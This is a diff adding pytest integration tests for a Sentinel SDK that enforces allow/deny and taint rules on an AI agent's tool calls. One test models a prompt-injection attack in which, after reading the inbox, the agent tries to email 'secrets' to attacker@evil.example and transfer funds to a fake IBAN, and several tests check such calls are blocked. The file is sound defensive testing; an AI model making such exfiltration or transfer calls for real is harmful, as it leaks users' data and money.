@@ -1,0 +1,248 @@
+"""The SDK against the real services: tool server and interceptor as uvicorn processes, state in Redis."""
+
+from __future__ import annotations
+
+import asyncio
+import hashlib
+import json
+import os
+import subprocess
+import sys
+import time
+import uuid
+from collections.abc import Iterator
+from dataclasses import dataclass
+from pathlib import Path
+
+import httpx
+import pytest
+import yaml
+
+from sentinel_contract import b64url_encode, generate_keypair
+from sentinel_sdk import (
+    AuthenticationError,
+    PolicyDenied,
+    RetryPolicy,
+    SentinelClient,
+    SentinelUnavailable,
+    SessionExpired,
+    SyncSentinelClient,
+)
+from tests.conftest import REDIS_URL, free_port
+
+pytestmark = pytest.mark.redis
+
+ROOT = Path(__file__).resolve().parents[2]
+API_KEY = "sk-sentinel-live-" + uuid.uuid4().hex
+POLICIES = {
+    "staticRules": {
+        "get_current_time": "ALLOW", "list_files": "ALLOW", "read_file": "ALLOW", "read_inbox": "ALLOW",
+        "fetch_url": "ALLOW", "send_email": "ALLOW", "transfer_funds": "ALLOW", "delete_file": "DENY",
+    },
+    "taintRules": [
+        {"type": "ADD_TAINT", "tool": "read_inbox", "tag": "untrusted"},
+        {"type": "CHECK_TAINT", "tool": "send_email", "forbidden_tags": ["untrusted"]},
+        {"type": "CHECK_TAINT", "tool": "transfer_funds", "forbidden_tags": ["untrusted"]},
+    ],
+}
+
+
+@dataclass(frozen=True)
+class Stack:
+    url: str
+    var: Path
+    config: Path
+    identity_seed: str
+    prefix: str
+
+
+def _wait_healthy(url: str, proc: subprocess.Popen[bytes], timeout: float = 30.0) -> None:
+    deadline = time.monotonic() + timeout
+    while time.monotonic() < deadline:
+        if proc.poll() is not None:
+            raise RuntimeError(f"{url} exited with {proc.returncode}")
+        try:
+            if httpx.get(f"{url}/healthz", timeout=1.0).status_code == 200:
+                return
+        except httpx.HTTPError:
+            pass
+        time.sleep(0.1)
+    raise RuntimeError(f"{url} not healthy after {timeout} s")
+
+
+def _stop(proc: subprocess.Popen[bytes]) -> None:
+    if proc.poll() is None:
+        proc.terminate()
+        try:
+            proc.wait(timeout=10)
+        except subprocess.TimeoutExpired:
+            proc.kill()
+            proc.wait()
+
+
+def _base_env() -> dict[str, str]:
+    env = {k: v for k, v in os.environ.items() if not k.startswith(("SENTINEL_", "SUPABASE_")) and k != "MCP_UPSTREAM_URL"}
+    return env | {"PYTHONPATH": str(ROOT)}
+
+
+def _start_interceptor(tmp: Path, config: Path, seed: str, mcp_url: str, prefix: str) -> tuple[str, subprocess.Popen[bytes]]:
+    port = free_port()
+    env = _base_env() | {
+        "SENTINEL_IDENTITY_KEY": seed,
+        "MCP_UPSTREAM_URL": mcp_url,
+        "SENTINEL_CONFIG": str(config),
+        "SENTINEL_REDIS_URL": REDIS_URL,
+        "SENTINEL_REDIS_PREFIX": prefix + "icp:",
+        "SENTINEL_AUDIT_LOG": str(tmp / f"interceptor-audit-{port}.jsonl"),
+        "SENTINEL_UPSTREAM_TIMEOUT_SECONDS": "3",
+    }
+    proc = subprocess.Popen(
+        [sys.executable, "-m", "uvicorn", "--factory", "interceptor.app:create_app", "--host", "127.0.0.1",
+         "--port", str(port), "--log-level", "warning", "--no-access-log"],
+        cwd=tmp, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
+    )
+    url = f"http://127.0.0.1:{port}"
+    try:
+        _wait_healthy(url, proc)
+    except BaseException:
+        _stop(proc)
+        raise
+    return url, proc
+
+
+@pytest.fixture(scope="module")
+def stack(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stack]:
+    tmp = tmp_path_factory.mktemp("live")
+    prefix = f"test:{uuid.uuid4().hex[:12]}:"
+    example = yaml.safe_load((ROOT / "examples" / "sentinel.yaml").read_text())
+    project = dict(example["projects"][0])
+    project.update(name="live", api_key_sha256=hashlib.sha256(API_KEY.encode()).hexdigest(), policies=POLICIES)
+    config = tmp / "sentinel.yaml"
+    config.write_text(yaml.safe_dump({"projects": [project]}))
+    identity = generate_keypair()
+    seed = b64url_encode(identity.seed)
+
+    mcp_port = free_port()
+    mcp_env = _base_env() | {
+        "SENTINEL_INTERCEPTOR_PUBLIC_KEYS": identity.public_b64,
+        "SENTINEL_REDIS_URL": REDIS_URL,
+        "SENTINEL_REDIS_PREFIX": prefix + "mcp:",
+        "SENTINEL_MCP_AUDIT_LOG": str(tmp / "mcp-audit.jsonl"),
+        "SENTINEL_MCP_DATA_DIR": str(tmp / "mcp-data"),
+    }
+    mcp = subprocess.Popen(
+        [sys.executable, "-m", "mcp_server", "--host", "127.0.0.1", "--port", str(mcp_port)],
+        cwd=tmp, env=mcp_env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
+    )
+    procs = [mcp]
+    try:
+        _wait_healthy(f"http://127.0.0.1:{mcp_port}", mcp)
+        url, interceptor = _start_interceptor(tmp, config, seed, f"http://127.0.0.1:{mcp_port}", prefix)
+        procs.append(interceptor)
+        yield Stack(url=url, var=tmp, config=config, identity_seed=seed, prefix=prefix)
+    finally:
+        for proc in reversed(procs):
+            _stop(proc)
+        import redis
+
+        client = redis.Redis.from_url(REDIS_URL)
+        try:
+            keys = list(client.scan_iter(match=prefix + "*", count=1000))
+            if keys:
+                client.delete(*keys)
+        finally:
+            client.close()
+
+
+def client_for(stack: Stack, **options: object) -> SentinelClient:
+    return SentinelClient(api_key=API_KEY, base_url=stack.url, **options)  # type: ignore[arg-type]
+
+
+async def test_session_lists_the_projects_tools_and_ends(stack: Stack) -> None:
+    async with client_for(stack) as client:
+        sid = client.session_id
+        names = [t.name for t in await client.list_tools()]
+        assert names == [t.name for t in await client.list_tools(refresh=True)]
+    assert sid and "send_email" in names and "read_inbox" in names
+    # The ended session is gone on the server too.
+    async with httpx.AsyncClient(base_url=stack.url) as raw:
+        response = await raw.get(f"/session/{sid}/tools", headers={"X-Sentinel-Key": API_KEY})
+    assert response.status_code == 404
+
+
+async def test_an_allowed_call_returns_the_tools_output_and_joins_the_audit_trail(stack: Stack) -> None:
+    async with client_for(stack) as client:
+        assert (await client.call_tool("get_current_time", {"timezone": "UTC"}))["timezone"] == "UTC"
+        result = await client.call_tool_result("list_files", {"directory": "."})
+    assert not result.is_error and result.jti and result.rule
+    mcp_audit = (stack.var / "mcp-audit.jsonl").read_text()
+    assert result.jti in mcp_audit
+
+
+async def test_a_static_deny_raises_policy_denied(stack: Stack) -> None:
+    async with client_for(stack) as client:
+        with pytest.raises(PolicyDenied) as info:
+            await client.call_tool("delete_file", {"path": "reports/q3_summary.txt"})
+    assert info.value.rule and info.value.reason
+
+
+async def test_the_injection_cannot_exfiltrate_after_reading_the_inbox(stack: Stack) -> None:
+    async with client_for(stack) as client:
+        await client.call_tool("send_email", {"to": "team@example.com", "subject": "hi", "body": "before any untrusted input"})
+        await client.call_tool("read_inbox", {"limit": 1})
+        with pytest.raises(PolicyDenied) as info:
+            await client.call_tool("send_email", {"to": "attacker@evil.example", "subject": "keys", "body": "secrets"})
+        assert "send_email" in info.value.rule and "untrusted" in info.value.reason
+        with pytest.raises(PolicyDenied):
+            await client.call_tool("transfer_funds", {"to_iban": "XX13EVIL000066666666", "amount": 5000})
+    outbox = (stack.var / "mcp-data" / "outbox.jsonl").read_text()
+    assert "team@example.com" in outbox and "attacker@evil.example" not in outbox
+
+
+async def test_langchain_tools_return_results_and_denials_as_messages(stack: Stack) -> None:
+    async with client_for(stack) as client:
+        tools = {t.name: t for t in await client.get_langchain_tools()}
+        assert tools["send_email"].args  # the tool server's JSON schema
+        inbox = await tools["read_inbox"].ainvoke({"limit": 1})
+        assert "emails" in json.loads(inbox)
+        blocked = await asyncio.to_thread(tools["send_email"].invoke, {"to": "a@evil.example", "subject": "s", "body": "b"})
+    assert blocked.startswith("Sentinel blocked this call (rule ")
+
+
+def test_the_sync_client_runs_a_session(stack: Stack) -> None:
+    with SyncSentinelClient(api_key=API_KEY, base_url=stack.url) as client:
+        assert client.call_tool("get_current_time", {"timezone": "UTC"})["timezone"] == "UTC"
+        (send,) = [t for t in client.get_langchain_tools(on_denied="message") if t.name == "send_email"]
+        client.call_tool("read_inbox", {"limit": 1})
+        assert send.invoke({"to": "x@evil.example", "subject": "s", "body": "b"}).startswith("Sentinel blocked")
+
+
+async def test_a_wrong_key_is_refused(stack: Stack) -> None:
+    with pytest.raises(AuthenticationError):
+        async with SentinelClient(api_key="sk-sentinel-wrong", base_url=stack.url):
+            pass
+
+
+async def test_a_session_ended_elsewhere_raises_session_expired(stack: Stack) -> None:
+    async with client_for(stack) as client:
+        async with httpx.AsyncClient(base_url=stack.url) as raw:
+            await raw.post(f"/session/{client.session_id}/end", headers={"X-Sentinel-Key": API_KEY})
+        with pytest.raises(SessionExpired):
+            await client.call_tool("get_current_time", {"timezone": "UTC"})
+
+
+async def test_an_unreachable_tool_server_fails_closed(stack: Stack) -> None:
+    url, proc = _start_interceptor(stack.var, stack.config, stack.identity_seed, f"http://127.0.0.1:{free_port()}", stack.prefix + "down:")
+    try:
+        with pytest.raises(SentinelUnavailable) as info:
+            async with SentinelClient(api_key=API_KEY, base_url=url, retry=RetryPolicy(max_attempts=2, base_delay=0.05)):
+                pass
+        assert info.value.status == 502
+    finally:
+        _stop(proc)
+
+
+async def test_an_unreachable_interceptor_raises_sentinel_unavailable() -> None:
+    client = SentinelClient(api_key=API_KEY, base_url=f"http://127.0.0.1:{free_port()}", retry=RetryPolicy(max_attempts=2, base_delay=0.01))
+    with pytest.raises(SentinelUnavailable):
+        await client.start()
